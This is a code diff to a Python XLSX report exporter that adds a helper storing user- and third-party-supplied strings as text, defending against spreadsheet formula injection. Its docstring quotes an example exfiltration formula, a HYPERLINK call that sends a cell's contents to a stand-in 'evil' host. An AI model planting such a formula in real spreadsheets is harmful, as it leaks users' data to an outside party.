@@ -22,6 +22,17 @@ HEADER_FILL = PatternFill("solid", fgColor="F1F3F5")
 BOLD = Font(bold=True)
 
 
+def _put(ws: Worksheet, row: int, column: int, value: Any) -> Any:
+    """Write one cell; text always as text. openpyxl stores a string starting with "=" as a
+    formula, and story titles, outlet names and report titles come from third parties or
+    users: ``=HYPERLINK("http://evil/?"&A1, "click")`` must arrive as those characters,
+    never run (the CSV export escapes the same way, `ttdn.measure.export`)."""
+    cell = ws.cell(row=row, column=column, value=nfc(value) if isinstance(value, str) else value)
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
+
+
 def _sheet_title(text: str) -> str:
     """Excel refuses []:*?/\\ in sheet names and more than 31 characters."""
     for bad in "[]:*?/\\":
@@ -33,12 +44,12 @@ def _table(
     ws: Worksheet, header: Sequence[str], rows: Sequence[Sequence[Any]], *, row: int = 1
 ) -> int:
     for col, title in enumerate(header, 1):
-        cell = ws.cell(row=row, column=col, value=nfc(title))
+        cell = _put(ws, row, col, title)
         cell.font, cell.fill = BOLD, HEADER_FILL
         cell.alignment = Alignment(wrap_text=True, vertical="top")
     for r, values in enumerate(rows, row + 1):
         for col, value in enumerate(values, 1):
-            ws.cell(row=r, column=col, value=nfc(value) if isinstance(value, str) else value)
+            _put(ws, r, col, value)
     for col, title in enumerate(header, 1):
         longest = max([len(str(title))] + [len(str(v[col - 1] or "")) for v in rows[:200]])
         ws.column_dimensions[get_column_letter(col)].width = min(60, max(10, longest + 2))
@@ -69,12 +80,14 @@ def render_xlsx(data: ReportData, *, title: str, subtitle: str, path: Path) -> N
     wb = Workbook()
     ws = wb.active
     ws.title = _sheet_title(_("Tổng quan"))
-    ws["A1"] = nfc(title)
-    ws["A1"].font = Font(bold=True, size=14)
-    ws["A2"] = nfc(subtitle)
-    ws["A3"] = nfc(
+    _put(ws, 1, 1, title).font = Font(bold=True, size=14)
+    _put(ws, 2, 1, subtitle)
+    _put(
+        ws,
+        3,
+        1,
         _("Số liệu từ %(a)s đến %(b)s")
-        % {"a": f"{data.period_start:%d/%m/%Y}", "b": f"{data.data_end:%d/%m/%Y}"}
+        % {"a": f"{data.period_start:%d/%m/%Y}", "b": f"{data.data_end:%d/%m/%Y}"},
     )
     t = data.totals
     _table(
@@ -133,7 +146,7 @@ def render_xlsx(data: ReportData, *, title: str, subtitle: str, path: Path) -> N
         )
         # years as text, so Excel uses them as categories and not as a series
         for r in range(2, last + 1):
-            ys.cell(row=r, column=1).value = str(ys.cell(row=r, column=1).value)
+            _put(ys, r, 1, str(ys.cell(row=r, column=1).value))
         _bar(ys, _("Bài báo theo năm"), 1, last, 2, "F2", horizontal=False)
 
     cs = wb.create_sheet(_sheet_title(_("Quốc gia")))
